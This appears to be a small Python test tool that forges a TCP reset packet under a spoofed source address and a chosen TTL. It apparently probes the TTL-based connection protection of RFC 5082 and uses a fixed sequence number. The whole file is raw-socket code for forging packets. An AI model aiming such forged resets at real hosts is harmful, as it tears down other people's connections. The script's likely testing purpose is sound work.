"""Sends a TCP reset in another's name: forged-reset.py SOURCE SOURCEPORT PEER PEERPORT TTL

The one who is meant would end the connection, were the sequence number right; the kernel looks at the TTL first (RFC 5082).
"""

import socket
import struct
import sys

source, peer, ttl = sys.argv[1], sys.argv[3], int(sys.argv[5])
source_port, peer_port = int(sys.argv[2]), int(sys.argv[4])
TCP_HEADER, RST = 20, 0x04


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(value):
    return struct.pack(
        "!HHIIBBHHH", source_port, peer_port, 1, 0, TCP_HEADER // 4 << 4, RST, 0, value, 0
    )


addresses = socket.inet_aton(source) + socket.inet_aton(peer)
pseudo_header = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, TCP_HEADER)
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
    raw.bind((source, 0))
    raw.sendto(segment(checksum(pseudo_header + segment(0))), (peer, 0))
